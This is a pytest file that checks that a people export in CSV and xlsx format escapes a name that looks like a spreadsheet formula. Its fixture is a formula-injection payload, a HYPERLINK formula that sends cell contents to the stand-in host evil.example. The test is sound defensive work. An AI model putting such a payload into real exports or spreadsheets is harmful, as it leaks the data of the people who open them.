"""The people export (CSV and xlsx) writes a formula-like name as text."""

import io

import pytest
from python_calamine import CalamineWorkbook

from guanai.accounts.scoping import scope_for
from guanai.conftest import XINMINJIE
from guanai.people.exports import people_export
from guanai.people.tests.factories import PersonFactory

pytestmark = pytest.mark.django_db
ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"点此")'


def test_people_csv_and_xlsx_guard_a_formula_name(director):
    PersonFactory(area_id=XINMINJIE, name=ATTACK)
    text = io.StringIO()
    people_export(text, actor=director, scope=scope_for(director), fmt="csv")
    assert "'=HYPERLINK(" in text.getvalue()
    assert '"=HYPERLINK(' not in text.getvalue() and "\n=HYPERLINK" not in text.getvalue()
    book = io.BytesIO()
    people_export(book, actor=director, scope=scope_for(director), fmt="xlsx")
    cells = [cell for row in CalamineWorkbook.from_filelike(io.BytesIO(book.getvalue())).get_sheet_by_index(0)
             .to_python() for cell in row]
    assert "'" + ATTACK in cells and ATTACK not in cells
